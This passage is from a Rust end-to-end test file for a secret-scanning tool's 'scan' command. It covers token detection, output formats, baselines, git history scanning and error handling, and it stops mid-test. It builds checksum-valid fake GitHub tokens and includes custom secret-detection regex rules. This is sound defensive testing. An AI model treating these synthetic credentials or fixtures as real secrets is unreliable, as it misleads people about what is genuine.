//! `steward scan` end to end.

use crate::harness::*;

/// A GitHub token with a valid checksum, built at run time so this file holds no secret.
fn github_token() -> String {
    let body = "p4Tq9ZmW2xLk7RbV0nYc3HsJ8dFg1A";
    format!("ghp_{body}{}", steward_scan::checks::base62_checksum(body.as_bytes()))
}

#[test]
fn scan_reports_findings_by_fingerprint_with_exit_1() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("repo");
    std::fs::create_dir_all(tree.join("deploy")).unwrap();
    let token = github_token();
    std::fs::write(
        tree.join("deploy/release.sh"),
        format!("#!/bin/sh\nexport GH_TOKEN={token}\n"),
    )
    .unwrap();
    std::fs::write(tree.join("notes.md"), format!("old token: {token}\n")).unwrap();
    std::fs::write(tree.join("clean.txt"), "nothing to see\n").unwrap();
    let output = steward.run(&["scan", tree.to_str().unwrap(), "-o", "json"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    let findings = output.json();
    assert_eq!(findings.as_array().unwrap().len(), 1);
    let finding = &findings[0];
    assert_eq!(finding["rule_id"], "github-classic-pat");
    assert_eq!(finding["preview"], "ghp_…(40 chars)");
    assert_eq!(finding["fingerprint"].as_str().unwrap().len(), 64);
    assert_eq!(finding["locations"].as_array().unwrap().len(), 2);
    assert_eq!(finding["locations"][0]["line"], 2);
    assert_eq!(finding["locations"][0]["column"], 17);
    assert!(
        !output.stdout.contains(&token) && !output.stderr.contains(&token),
        "the secret must not be printed"
    );
    assert!(output.stderr.contains("scanned 3 files and blobs"), "{}", output.stderr);

    // The same secret as a registered credential has the same fingerprint.
    steward
        .run(&[
            "nhi",
            "add",
            "--name",
            "release-bot",
            "--kind",
            "bot",
            "--system",
            "github",
            "--tier",
            "high",
        ])
        .ok();
    let credential = steward
        .run_with_stdin(
            &[
                "credential",
                "add",
                "release-bot",
                "--kind",
                "token",
                "--secret-stdin",
                "-o",
                "json",
            ],
            Some(&token),
        )
        .ok()
        .json();
    assert_eq!(credential["fingerprint"], finding["fingerprint"]);

    let shown = steward.run(&["scan", tree.to_str().unwrap(), "--show-secrets", "--exit-zero"]);
    assert_eq!(shown.code, 0);
    assert!(shown.stdout.contains(&token));
    // A header over aligned columns: every row's place starts where the header's WHERE does.
    let mut lines = shown.stdout.lines();
    let header = lines.next().unwrap();
    assert!(header.starts_with("RULE") && header.ends_with("WHERE"), "{header}");
    let column = header.find("WHERE").unwrap();
    for line in lines {
        assert!(line[column..].starts_with('/'), "{line}");
        assert!(!line[..column].ends_with(|c: char| !c.is_whitespace()), "{line}");
    }
    let csv = steward.run(&["scan", tree.to_str().unwrap(), "-o", "csv"]).stdout;
    let header = "rule_id,rule_name,fingerprint,preview,secret,path,line,column,repository,commit,author,date,\
                  channel,message_ts,issue_key,comment_id,cell,field";
    assert!(csv.starts_with(header), "{csv}");
    assert_eq!(csv.lines().count(), 3);
    assert!(!csv.contains(&token), "{csv}");
    // The secret only with --show-secrets; the header even when nothing is found.
    let shown = steward
        .run(&["scan", tree.to_str().unwrap(), "-o", "csv", "--show-secrets"])
        .stdout;
    assert!(shown.contains(&format!(",{token},")), "{shown}");
    let empty = steward.dir.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let none = steward.run(&["scan", empty.to_str().unwrap(), "-o", "csv"]).ok();
    assert_eq!(none.stdout.trim(), header);
}

#[test]
fn a_clean_tree_exits_0_and_bad_rules_exit_2() {
    let steward = Steward::uninitialised();
    let tree = steward.dir.path().join("clean");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(
        tree.join("a.txt"),
        "AKIAIOSFODNN7EXAMPLE is the documented example key\n",
    )
    .unwrap();
    let output = steward.run(&["scan", tree.to_str().unwrap()]);
    assert_eq!(output.code, 0, "{}", output.stderr);
    assert!(output.stdout.contains("no secrets found"));
    assert!(output.stderr.contains("one-off key"), "{}", output.stderr);

    let rules = steward.dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("internal.toml"),
        "[[rules]]\nid = \"acme-token\"\nname = \"ACME internal token\"\nprovider = \"acme\"\nkeywords = [\"acme_\"]\n\
         pattern = '''\\b(?P<secret>acme_[a-z0-9]{24})\\b'''\nexamples = [\"acme_q8w7e6r5t4y3u2i1o9p8a7s6\"]\n",
    )
    .unwrap();
    std::fs::write(tree.join("b.txt"), "key acme_k3j4h5g6f7d8s9a0q1w2e3r4\n").unwrap();
    let custom = steward.run(&[
        "scan",
        tree.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "-o",
        "json",
    ]);
    assert_eq!(custom.code, 1, "{}", custom.stderr);
    assert_eq!(custom.json()[0]["rule_id"], "acme-token");

    std::fs::write(rules.join("broken.toml"), "[[rules]]\nid = \"Bad Id\"\n").unwrap();
    let broken = steward.run(&["scan", tree.to_str().unwrap(), "--rules", rules.to_str().unwrap()]);
    assert_eq!(broken.code, 2);
    assert!(broken.stderr.contains("broken.toml"), "{}", broken.stderr);

    // A path that is not there (a typo in a CI job) is an error, alone or beside others,
    // not "no secrets found".
    let missing = steward.dir.path().join("srcc");
    for args in [
        vec!["scan", missing.to_str().unwrap()],
        vec!["scan", tree.to_str().unwrap(), missing.to_str().unwrap()],
    ] {
        let output = steward.run(&args);
        assert_eq!(output.code, 2, "{args:?}: {}", output.stderr);
        assert_eq!(
            output.stderr.trim(),
            format!("error: {}: no such file or directory", missing.display()),
            "{args:?}"
        );
        assert!(output.stdout.is_empty(), "{}", output.stdout);
    }
}

#[test]
fn record_joins_findings_to_the_inventory_and_baselines_hide_known_secrets() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("repo");
    std::fs::create_dir_all(&tree).unwrap();
    let (known, retired, stray) = (
        token_from("a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5"),
        token_from("Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5"),
        token_from("Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5"),
    );
    std::fs::write(
        tree.join("ci.yml"),
        format!("token: {known}\nold: {retired}\nother: {stray}\n"),
    )
    .unwrap();
    for (name, secret) in [("release-bot", &known), ("legacy-bot", &retired)] {
        steward
            .run(&[
                "nhi", "add", "--name", name, "--kind", "bot", "--system", "github", "--tier", "high",
            ])
            .ok();
        steward
            .run_with_stdin(
                &[
                    "credential",
                    "add",
                    name,
                    "--kind",
                    "token",
                    "--public-id",
                    name,
                    "--secret-stdin",
                ],
                Some(secret),
            )
            .ok();
    }
    steward
        .run(&[
            "credential",
            "revoke",
            "legacy-bot",
            "legacy-bot",
            "--reason",
            "rotated",
        ])
        .ok();

    let recorded = steward.run(&["scan", tree.to_str().unwrap(), "--record"]);
    assert_eq!(recorded.code, 1, "{}", recorded.stderr);
    assert!(
        recorded
            .stderr
            .contains("leaked: github/release-bot credential #1 (active) has 1 copies"),
        "{}",
        recorded.stderr
    );
    assert!(
        recorded
            .stderr
            .contains("revoked-but-referenced: github/legacy-bot credential #2"),
        "{}",
        recorded.stderr
    );
    assert!(
        recorded
            .stderr
            .contains("unmanaged: github-classic-pat ghp_…(40 chars) (1 copies)"),
        "{}",
        recorded.stderr
    );
    assert!(
        recorded
            .stderr
            .contains("recorded 3 locations: 1 inventory credentials leaked, 1 revoked but referenced, 1 unmanaged")
    );
    let shown = steward.run(&["nhi", "show", "release-bot"]).ok().stdout;
    assert!(
        shown.contains("known copies (1 live, 0 removed):") && shown.contains("ci.yml:1:8"),
        "{shown}"
    );
    // `steward findings --source scan` reads what was recorded: most severe first, each
    // with its evidence, remediation and mapping.
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
    let summary: Vec<(String, String, String)> = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| {
            (
                finding["severity"].as_str().unwrap().to_string(),
                finding["rule"].as_str().unwrap().to_string(),
                finding["identity"].as_str().unwrap_or("-").to_string(),
            )
        })
        .collect();
    let expected = [
        ("high", "leaked", "github/release-bot"),
        ("high", "unmanaged-secret", "-"),
        ("medium", "revoked-but-referenced", "github/legacy-bot"),
    ];
    assert_eq!(
        summary,
        expected.map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
    );
    let unmanaged = &findings[1];
    assert_eq!(unmanaged["scanner_rule"], "github-classic-pat");
    assert_eq!(unmanaged["preview"], "ghp_…(40 chars)");
    assert_eq!(unmanaged["owasp_nhi"], "NHI2");
    assert_eq!(
        unmanaged["nist_csf"],
        serde_json::json!(["ID.AM-02", "PR.AA-01", "PR.DS-01"])
    );
    assert_eq!(unmanaged["copies"], 1);
    assert!(
        unmanaged["locations"][0]["locator"]
            .as_str()
            .unwrap()
            .ends_with("ci.yml:3:8"),
        "{unmanaged}"
    );
    assert_eq!(findings[0]["credential_status"], "active");
    let table = steward.run(&["findings", "--min-severity", "high"]).ok().stdout;
    assert!(!table.contains("revoked-but-referenced"), "{table}");
    assert!(table.contains("github/release-bot"), "{table}");
    let gate = steward.run(&["findings", "--fail-on-findings"]);
    assert_eq!(gate.code, 1, "{}", gate.stderr);
    assert!(gate.stdout.contains("unmanaged-secret"), "{}", gate.stdout);
    // No secret is in any findings output.
    let all = steward.run(&["findings", "-o", "csv"]).ok().stdout;
    for secret in [&known, &retired, &stray] {
        assert!(!all.contains(secret.as_str()) && !findings.to_string().contains(secret.as_str()));
    }
    // The copy of the revoked credential now blocks archiving the identity.
    for state in ["offboarding", "revoked"] {
        steward
            .run(&["nhi", "transition", "legacy-bot", "--to", state, "--reason", "retire"])
            .ok();
    }
    steward
        .run(&[
            "nhi",
            "transition",
            "legacy-bot",
            "--to",
            "archived",
            "--reason",
            "retire",
        ])
        .fails_with(1);

    let baseline = steward.write_file(
        "baseline.json",
        &steward.run(&["scan", tree.to_str().unwrap(), "-o", "json"]).stdout,
    );
    let again = steward.run(&["scan", tree.to_str().unwrap(), "--baseline", baseline.to_str().unwrap()]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(again.stderr.contains("3 known secrets left out"), "{}", again.stderr);
    assert!(!again.stderr.contains("note: none of the baseline"), "{}", again.stderr);
    // Made by another installation (another key), the baseline leaves nothing out: said.
    let other = Steward::new();
    let foreign = other.run(&["scan", tree.to_str().unwrap(), "--baseline", baseline.to_str().unwrap()]);
    assert_eq!(foreign.code, 1, "{}", foreign.stderr);
    assert!(
        foreign
            .stderr
            .contains("note: none of the baseline's 3 secrets is among the 3 found: if it was made by another"),
        "{}",
        foreign.stderr
    );
    std::fs::write(
        tree.join("new.txt"),
        format!("{}\n", token_from("n3W5s7E9c1R3e5T7x9Y1z3A5b7C9d1")),
    )
    .unwrap();
    let fresh = steward.run(&[
        "scan",
        tree.to_str().unwrap(),
        "--baseline",
        baseline.to_str().unwrap(),
        "-o",
        "json",
    ]);
    assert_eq!(fresh.code, 1);
    assert_eq!(fresh.json().as_array().unwrap().len(), 1);
}

#[test]
fn sarif_output_describes_rules_and_results_without_secrets() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("repo");
    std::fs::create_dir_all(&tree).unwrap();
    let token = token_from("S1a2R3i4F5o6U7t8P9u0T1t2E3s4T5");
    std::fs::write(tree.join("é config.env"), format!("# café\nGH_TOKEN={token}\n")).unwrap();
    let output = steward.run(&["scan", tree.to_str().unwrap(), "-o", "sarif"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    assert!(!output.stdout.contains(&token));
    let log = output.json();
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "steward");
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(rules.len() >= 100);
    let result = &run["results"][0];
    assert_eq!(result["ruleId"], "github-classic-pat");
    assert_eq!(
        rules[result["ruleIndex"].as_u64().unwrap() as usize]["id"],
        "github-classic-pat"
    );
    let location = &result["locations"][0]["physicalLocation"];
    assert!(
        location["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("/repo/%C3%A9%20config.env"),
        "{location}"
    );
    assert_eq!(location["region"]["startLine"], 2);
    assert_eq!(location["region"]["startColumn"], 10);
    assert_eq!(
        result["partialFingerprints"]["stewardSecretFingerprint/v1"]
            .as_str()
            .unwrap()
            .len(),
        64
    );
    // -o sarif is for scan only.
    steward.run(&["nhi", "list", "-o", "sarif"]).fails_with(2);
}

/// Runs git in `dir`, isolated from the user's configuration.
fn git_in(dir: &std::path::Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.com")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.com")
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

#[test]
fn staged_scans_only_what_the_next_commit_records() {
    let steward = Steward::uninitialised();
    let repo = steward.dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let git = |args: &[&str]| git_in(&repo, args);
    git(&["init", "-q"]);
    let staged = token_from("P1r2E3c4O5m6M7i8T9h0O1o2K3s4X5");
    let unstaged = token_from("U1n2S3t4A5g6E7d8C9h0A1n2G3e4S5");
    std::fs::write(repo.join("app.env"), format!("TOKEN={staged}\n")).unwrap();
    git(&["add", "app.env"]);
    // Edited after staging: the commit would still record the staged secret.
    std::fs::write(repo.join("app.env"), "TOKEN=${TOKEN}\n").unwrap();
    std::fs::write(repo.join("scratch.txt"), format!("{unstaged}\n")).unwrap();
    let output = steward.run(&["scan", "--staged", repo.to_str().unwrap(), "-o", "json"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    let findings = output.json();
    assert_eq!(findings.as_array().unwrap().len(), 1);
    assert_eq!(findings[0]["locations"][0]["path"], "app.env");
    assert_eq!(findings[0]["locations"][0]["column"], 7);
    // A staged file over the size limit is named in a warning, not passed over silently.
    let limited = steward.run(&["scan", "--staged", repo.to_str().unwrap(), "--max-file-size", "10"]);
    assert_eq!(limited.code, 0, "{}", limited.stderr);
    assert!(
        limited
            .stderr
            .contains("warning: app.env (staged): skipped, 47 bytes is over the 10 byte limit"),
        "{}",
        limited.stderr
    );
    git(&["reset", "-q"]);
    assert_eq!(steward.run(&["scan", "--staged", repo.to_str().unwrap()]).code, 0);

    // Outside a repository: one line that says so (git's own message is its whole usage).
    let outside = steward.dir.path().join("not-a-repo");
    std::fs::create_dir_all(&outside).unwrap();
    let output = steward.run(&["scan", "--staged", outside.to_str().unwrap()]);
    assert_eq!(output.code, 2, "{}", output.stderr);
    assert_eq!(
        output.stderr.lines().last().unwrap(),
        format!(
            "error: {}: not a git working tree (--staged needs one)",
            outside.display()
        )
    );
    assert!(!output.stderr.contains("usage"), "{}", output.stderr);
}

#[test]
fn sarif_output_validates_against_the_official_schema() {
    let Ok(multitool) = std::env::var("STEWARD_SARIF_MULTITOOL") else {
        assert!(
            std::env::var("CI").map_or(true, |value| value != "true"),
            "CI=true needs STEWARD_SARIF_MULTITOOL (scripts/test)"
        );
        eprintln!("skipping SARIF schema validation: STEWARD_SARIF_MULTITOOL is not set (scripts/test sets it)");
        return;
    };
    let steward = Steward::new();
    let tree = steward.dir.path().join("repo");
    std::fs::create_dir_all(tree.join("slack/general")).unwrap();
    let token = token_from("V1a2L3i4D5a6T7e8S9c0H1e2M3a4A5");
    std::fs::write(
        tree.join("app.env"),
        format!("GH={token}\nDB=postgres://app:{}@db/app\n", "k9Lm2Qx7Vb4Np8Rt"),
    )
    .unwrap();
    std::fs::write(
        tree.join("slack/general/2024-05-01.json"),
        serde_json::json!([{"ts": "1714550100.000200", "text": format!("use {token}")}]).to_string(),
    )
    .unwrap();
    // A copy in a repository's history (its artifact is under the repository's path).
    let repo = tree.join("nested/app");
    std::fs::create_dir_all(&repo).unwrap();
    git_in(&repo, &["init", "-q"]);
    std::fs::write(repo.join("old.env"), format!("GH={token}\n")).unwrap();
    git_in(&repo, &["add", "old.env"]);
    git_in(&repo, &["commit", "-qm", "add"]);
    let output = steward.run(&["scan", tree.to_str().unwrap(), "-o", "sarif"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    let log = steward.write_file("scan.sarif", &output.stdout);
    let report = steward.dir.path().join("validation.sarif");
    let status = std::process::Command::new(&multitool)
        .args([
            "validate",
            log.to_str().unwrap(),
            "-o",
            report.to_str().unwrap(),
            "--log",
            "ForceOverwrite",
        ])
        .env("DOTNET_SYSTEM_GLOBALIZATION_INVARIANT", "1")
        .output()
        .expect("the SARIF multitool runs");
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stdout));
    let validation: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    let problems: Vec<String> = validation["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|result| format!("{} {} {}", result["ruleId"], result["level"], result["message"]))
        .collect();
    assert!(
        problems.is_empty(),
        "SARIF validation problems:\n{}",
        problems.join("\n")
    );
}

#[test]
fn a_rescan_marks_copies_that_are_gone_as_removed() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("service");
    std::fs::create_dir_all(&tree).unwrap();
    let (kept, cleaned) = (
        token_from("k3E4p5T6k7E8p9T0k1E2p3T4k5E6p7"),
        token_from("c1L2e3A4n5E6d7C8l9E0a1N2e3D4c5"),
    );
    std::fs::write(tree.join("a.env"), format!("TOKEN={kept}\n")).unwrap();
    std::fs::write(tree.join("b.env"), format!("TOKEN={cleaned}\n")).unwrap();
    let root = tree.to_str().unwrap();
    steward.run(&["scan", root, "--record", "--exit-zero"]).ok();
    let count = |steward: &Steward| {
        steward
            .run(&["findings", "-o", "json"])
            .ok()
            .json()
            .as_array()
            .unwrap()
            .len()
    };
    assert_eq!(count(&steward), 2);

    // The leak is cleaned up; a scan of another directory does not touch this one's copies,
    // not even when both are scanned as `.` from inside them.
    std::fs::write(tree.join("b.env"), "TOKEN=${GITHUB_TOKEN}\n").unwrap();
    let elsewhere = steward.dir.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    steward
        .run(&["scan", elsewhere.to_str().unwrap(), "--record", "--exit-zero"])
        .ok();
    let from = |dir: &std::path::Path| {
        let output = steward
            .command(&["scan", ".", "--record", "--exit-zero"])
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    from(&elsewhere);
    assert_eq!(count(&steward), 2);
    // A scan that skips files silently (ignore files, archives) does not mark anything
    // removed, and says why on one line.
    let partial = steward
        .run(&["scan", root, "--record", "--exit-zero", "--respect-gitignore"])
        .ok();
    let removals = |stderr: &str| stderr.lines().filter(|line| line.starts_with("removed:")).count();
    assert_eq!(removals(&partial.stderr), 0, "{}", partial.stderr);
    let notice = |stderr: &str| {
        stderr
            .lines()
            .filter(|line| line.starts_with("earlier copies were not marked removed: "))
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        notice(&partial.stderr),
        [
            "earlier copies were not marked removed: --respect-gitignore skips ignored files, so the scan may not have read them (scan without it to mark gone copies removed)"
        ],
        "{}",
        partial.stderr
    );
    let both = steward
        .run(&[
            "scan",
            root,
            "--record",
            "--exit-zero",
            "--respect-gitignore",
            "--no-archives",
        ])
        .ok();
    assert_eq!(removals(&both.stderr), 0, "{}", both.stderr);
    let both = notice(&both.stderr);
    assert!(
        both.len() == 1
            && both[0]
                .contains("--respect-gitignore skips ignored files and --no-archives does not read inside archives"),
        "{both:?}"
    );
    assert_eq!(count(&steward), 2);
    // Scanned as `.` from inside, the copies are the same places (locators are absolute).
    let rescan = from(&tree);
    assert!(notice(&rescan).is_empty(), "{rescan}");
    assert!(
        rescan.contains(&format!("removed: config_file {root}/b.env:1:7 is no longer there")),
        "{rescan}"
    );
    let findings = steward.run(&["findings", "-o", "json"]).ok().json();
    assert_eq!(findings.as_array().unwrap().len(), 1, "{findings}");
    assert!(
        findings[0]["locations"][0]["locator"]
            .as_str()
            .unwrap()
            .ends_with("a.env:1:7")
    );
    let log = steward.run(&["audit", "log", "-o", "json"]).ok().json();
    assert!(
        log.as_array()
            .unwrap()
            .iter()
            .any(|event| event["action"] == "location.remove"),
        "{log}"
    );
    steward.run(&["audit", "verify"]).ok();
}

#[test]
fn repositories_below_a_directory_are_scanned_through_their_history() {
    let steward = Steward::new();
    let org = steward.dir.path().join("org");
    let app = org.join("app");
    std::fs::create_dir_all(&app).unwrap();
    let (in_branch, in_mirror) = (
        token_from("B1r2A3n4C5h6L7e8A9k0X1y2Z3a4B5"),
        token_from("M1i2R3r4O5r6L7e8A9k0X1y2Z3a4B5"),
    );
    // app: a secret committed on a branch, removed from the files it was in.
    git_in(&app, &["init", "-q", "-b", "main"]);
    std::fs::write(app.join("README"), "app\n").unwrap();
    git_in(&app, &["add", "."]);
    git_in(&app, &["commit", "-q", "-m", "start"]);
    git_in(&app, &["checkout", "-q", "-b", "leak"]);
    std::fs::write(app.join("deploy.env"), format!("TOKEN={in_branch}\n")).unwrap();
    git_in(&app, &["add", "."]);
    git_in(&app, &["commit", "-q", "-m", "deploy"]);
    git_in(&app, &["checkout", "-q", "main"]);
    // tool.git: a bare mirror (as `git clone --mirror` makes) of a repository elsewhere.
    let source = steward.dir.path().join("tool-source");
    std::fs::create_dir_all(&source).unwrap();
    git_in(&source, &["init", "-q", "-b", "main"]);
    std::fs::write(source.join("ci.env"), format!("TOKEN={in_mirror}\n")).unwrap();
    git_in(&source, &["add", "."]);
    git_in(&source, &["commit", "-q", "-m", "ci"]);
    git_in(&org, &["clone", "-q", "--mirror", source.to_str().unwrap(), "tool.git"]);

    let root = org.to_str().unwrap();
    let scan = steward.run(&["scan", root, "--record", "-o", "json"]);
    assert_eq!(scan.code, 1, "{}", scan.stderr);
    assert!(scan.stderr.contains("in 2 repositories"), "{}", scan.stderr);
    assert!(scan.stderr.contains(", 0 warnings"), "{}", scan.stderr);
    let findings = scan.json();
    let repository_of = |path: &str| -> String {
        let finding = findings
            .as_array()
            .unwrap()
            .iter()
            .find(|finding| finding["locations"][0]["path"] == path)
            .unwrap_or_else(|| panic!("a finding at {path}: {findings}"));
        finding["locations"][0]["repository"].as_str().unwrap().to_string()
    };
    assert!(repository_of("deploy.env").ends_with("org/app"));
    assert!(repository_of("ci.env").ends_with("org/tool.git"));
    assert_eq!(findings.as_array().unwrap().len(), 2, "{findings}");
    // The table and CSV say which commit a history copy is in (the file is gone from the
    // working tree, or holds something else there now).
    let commit = findings
        .as_array()
        .unwrap()
        .iter()
        .find(|finding| finding["locations"][0]["path"] == "deploy.env")
        .unwrap()["locations"][0]["commit"]
        .as_str()
        .unwrap()
        .to_string();
    let table = steward.run(&["scan", app.to_str().unwrap(), "--exit-zero"]).ok().stdout;
    assert!(
        table.contains(&format!("{}@{}:deploy.env:1:7", app.display(), &commit[..12])),
        "{table}"
    );
    let csv = steward
        .run(&["scan", app.to_str().unwrap(), "-o", "csv", "--exit-zero"])
        .ok()
        .stdout;
    assert!(
        csv.lines()
            .nth(1)
            .unwrap()
            .contains(&format!(",deploy.env,1,7,{},{commit},", app.display())),
        "{csv}"
    );

    // The branch is dropped: a rescan of the directory marks that history copy removed.
    git_in(&app, &["branch", "-q", "-D", "leak"]);
    let rescan = steward.run(&["scan", root, "--record", "--exit-zero"]).ok();
    assert!(
        rescan.stderr.contains(&format!("removed: repository_file {root}/app@")),
        "{}",
        rescan.stderr
    );
    let left = steward.run(&["findings", "-o", "json"]).ok().json();
    assert_eq!(left.as_array().unwrap().len(), 1, "{left}");
}

/// An output format scan cannot write is refused before the scan: a `--record` scan that
/// then failed had already written every copy to the store and the audit trail. So is a
/// baseline that cannot be read.
#[test]
fn usage_errors_come_before_a_recording_scan_writes_anything() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("repo");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("ci.env"), format!("GH_TOKEN={}\n", github_token())).unwrap();
    let events_before = steward.count("audit_events");
    let yaml = steward.run(&["scan", tree.to_str().unwrap(), "--record", "-o", "yaml"]);
    assert_eq!(yaml.code, 2, "{}", yaml.stderr);
    assert_eq!(
        yaml.stderr.trim(),
        "error: scan writes table, json, jsonl, csv or sarif"
    );
    let missing = steward.dir.path().join("no-baseline.json");
    let baseline = steward.run(&[
        "scan",
        tree.to_str().unwrap(),
        "--record",
        "--baseline",
        missing.to_str().unwrap(),
    ]);
    assert_eq!(baseline.code, 2, "{}", baseline.stderr);
    assert!(baseline.stderr.contains("cannot read"), "{}", baseline.stderr);
    assert_eq!(steward.count("locations"), 0);
    assert_eq!(steward.count("scanned_secrets"), 0);
    assert_eq!(steward.count("audit_events"), events_before);
}

/// A rule file whose examples do not hold is refused when loaded, in one line naming the
/// file, the rule and the example, before anything is scanned.
#[test]
fn rules_whose_examples_do_not_hold_are_refused() {
    let steward = Steward::uninitialised();
    let tree = steward.dir.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("t.env"), "k = \"acme_q8w7e6r5t4y3u2i1o9p8a7s6\"\n").unwrap();
    let rules = steward.dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    let file = rules.join("x.toml");
    std::fs::write(
        &file,
        "[[rules]]\nid = \"acme-token\"\nname = \"ACME internal token\"\nprovider = \"acme\"\nkeywords = [\"acme_\"]\n\
         pattern = '''\\b(?P<secret>acme_[a-z0-9]{24})\\b'''\nexamples = [\"acme_short\"]\n\
         counter_examples = [\"acme_q8w7e6r5t4y3u2i1o9p8a7s6\"]\n",
    )
    .unwrap();
    let output = steward.run(&["scan", tree.to_str().unwrap(), "--rules", rules.to_str().unwrap()]);
    assert_eq!(output.code, 2, "{}", output.stderr);
    assert_eq!(
        output.stderr.trim(),
        format!(
            "error: {}: rule acme-token: example \"acme_short\" is not found by the rule",
            file.display()
        )
    );
    assert!(output.stdout.is_empty(), "{}", output.stdout);
}

/// What a pipe feeds to `scan /dev/stdin` is scanned (`git show :file | steward scan
/// /dev/stdin` in a hook passed as "no secrets found" before), as is a process
/// substitution.
#[test]
fn a_pipe_on_standard_input_is_scanned() {
    let steward = Steward::uninitialised();
    let token = github_token();
    let piped = steward.run_with_stdin(&["scan", "/dev/stdin", "-o", "json"], Some(&format!("T={token}\n")));
    assert_eq!(piped.code, 1, "{}", piped.stderr);
    let location = &piped.json()[0]["locations"][0];
    assert_eq!(
        (location["path"].as_str(), location["line"].as_u64()),
        (Some("/dev/stdin"), Some(1))
    );
    let secret = steward.write_file("secret.env", &format!("T={token}\n"));
    let substituted = std::process::Command::new("bash")
        .arg("-c")
        .arg(r#""$0" --data-dir "$1" scan <(cat "$2") -o json"#)
        .arg(env!("CARGO_BIN_EXE_steward"))
        .arg(steward.data_dir())
        .arg(&secret)
        .output()
        .unwrap();
    assert_eq!(
        substituted.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&substituted.stderr)
    );
}

/// A path given that is a link to nothing, a loop of links or a file that cannot be read is
/// refused as a missing path is (exit 2, one line), not scanned as "no secrets found".
#[test]
fn a_dangling_link_or_unreadable_path_given_exits_2() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let steward = Steward::uninitialised();
    let tree = steward.dir.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("clean.txt"), "nothing\n").unwrap();
    let dangling = steward.dir.path().join("dangling");
    symlink("/nonexistent/steward-target", &dangling).unwrap();
    let (loop_a, loop_b) = (steward.dir.path().join("loop-a"), steward.dir.path().join("loop-b"));
    symlink(&loop_b, &loop_a).unwrap();
    symlink(&loop_a, &loop_b).unwrap();
    for (path, message) in [
        (
            &dangling,
            format!(
                "error: {}: symbolic link to /nonexistent/steward-target, which does not exist",
                dangling.display()
            ),
        ),
        (&loop_a, format!("error: {}: ", loop_a.display())),
    ] {
        let output = steward.run(&["scan", tree.to_str().unwrap(), path.to_str().unwrap()]);
        assert_eq!(output.code, 2, "{}", output.stderr);
        assert!(output.stderr.starts_with(&message), "{}", output.stderr);
        assert_eq!(output.stderr.lines().count(), 1, "{}", output.stderr);
        assert!(output.stdout.is_empty(), "{}", output.stdout);
    }
    let unreadable = tree.join("secret.env");
    std::fs::write(&unreadable, "T=x\n").unwrap();
    std::fs::set_permissions(&unreadable, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::File::open(&unreadable).is_ok() {
        // Running as root: permissions do not stop reading, so there is nothing to refuse.
        return;
    }
    let output = steward.run(&["scan", unreadable.to_str().unwrap()]);
    assert_eq!(output.code, 2, "{}", output.stderr);
    assert!(
        output
            .stderr
            .starts_with(&format!("error: {}: cannot read: ", unreadable.display())),
        "{}",
        output.stderr
    );
}

/// A recorded copy is one place, whatever its line: a line added above it moves the copy
/// (a `location.move` event, its first sighting kept) instead of removing it and finding a
/// new one. `../dir` from a sibling is `dir`, and a staged scan from a subdirectory names
/// files from the repository's top level, as git does.
#[test]
fn recorded_copies_keep_their_place_when_lines_move_and_from_any_directory() {
    let steward = Steward::new();
    let dir = steward.dir.path().join("dir");
    std::fs::create_dir_all(&dir).unwrap();
    let secret = token_from("M1o2V3e4D5l6I7n8E9s0A1b2C3d4E5");
    std::fs::write(dir.join("creds.env"), format!("token={secret}\n")).unwrap();
    let scan_at = |now: &str, cwd: &std::path::Path, path: &str| {
        let output = steward
            .command(&["scan", path, "--record"])
            .env("STEWARD_NOW", now)
            .current_dir(cwd)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        String::from_utf8(output.stderr).unwrap()
    };
    scan_at("2026-11-01T00:00:00Z", steward.dir.path(), "dir");
